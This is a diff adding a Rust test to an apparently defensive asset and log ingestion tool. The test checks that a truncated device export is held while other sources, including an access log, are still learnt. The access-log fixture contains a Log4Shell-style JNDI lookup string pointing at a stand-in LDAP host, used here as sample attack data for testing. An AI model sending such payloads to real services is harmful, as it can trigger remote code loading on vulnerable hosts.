@@ -224,6 +224,47 @@ fn a_source_that_lost_half_of_what_it_said_is_held_until_somebody_says_so() {
     assert_eq!(memory.run(&["status"]).code, 0);
 }
 
+/// An export that broke off says nothing about what is missing. The rest of the night is learnt, and the word that it waits
+/// goes when it is whole again.
+#[test]
+fn a_source_that_broke_off_is_held_alone_until_it_is_whole() {
+    let memory = Memory::new();
+    let machine = |n: u32| {
+        format!(
+            r#"{{"name":"host-{n}","ip":"10.20.1.{n}","product":"log4j-core","version":"2.14.1","vendor":"Apache"}}"#
+        )
+    };
+    let whole = |count: u32| format!("[{}]", (1..=count).map(machine).collect::<Vec<_>>().join(",\n"));
+    memory.0.file("night/devices.json", whole(20));
+    memory.0.file("cve.jsonl", RECORD);
+    ["night", "cve.jsonl"].iter().for_each(|name| _ = memory.ingest(name));
+    let before = memory.status().len();
+    let torn = whole(20);
+    memory.0.file("night/devices.json", &torn[..torn.len() - 60]);
+    let breach = "198.51.100.7 - - [23/Jun/2026:03:04:05 +0000] \"GET /?x=${jndi:ldap://x.example/a} HTTP/1.1\" 200 5 \"-\" \"-\"\n";
+    memory.0.file("night/access.log", breach);
+    memory.0.file(
+        "other/devices.csv",
+        "name,ip,vendor,product,version\napp-9,10.20.1.99,Apache,log4j-core,2.14.1\n",
+    );
+    let (night, other) = (memory.path("night"), memory.path("other"));
+    let run = memory.run(&["ingest", &night, &other]);
+    assert!(run.code == 3 && flat(&run.out).contains("ends inside"), "{}{}", run.out, run.err);
+    let held = |run: &Run| run.err.contains("is held");
+    assert!(held(&memory.run(&["status"])), "the broken export waits");
+    let lines = memory.run(&["status", "--format", "ndjson"]).out;
+    assert!(lines.contains("\"host\":\"app-9\""), "the other source is learnt");
+    let seen = memory.run(&["search", "198.51.100.7"]);
+    assert!(seen.out.contains("in 1 record"), "the log beside it is learnt: {}", seen.out);
+    assert!(lines.lines().count() > before, "nothing closed");
+    // The same as at first: nothing is to be learnt of it, and it waits no longer.
+    memory.0.file("night/devices.json", whole(20));
+    let run = memory.run(&["ingest", &night]);
+    assert_eq!(run.code, 0, "{}{}", run.out, run.err);
+    let status = memory.run(&["status"]);
+    assert!(!held(&status) && status.code == 0, "{}", status.err);
+}
+
 #[test]
 fn an_export_with_another_day_in_its_name_is_held_with_the_question_whose_next_state_it_is() {
     let memory = Memory::new();
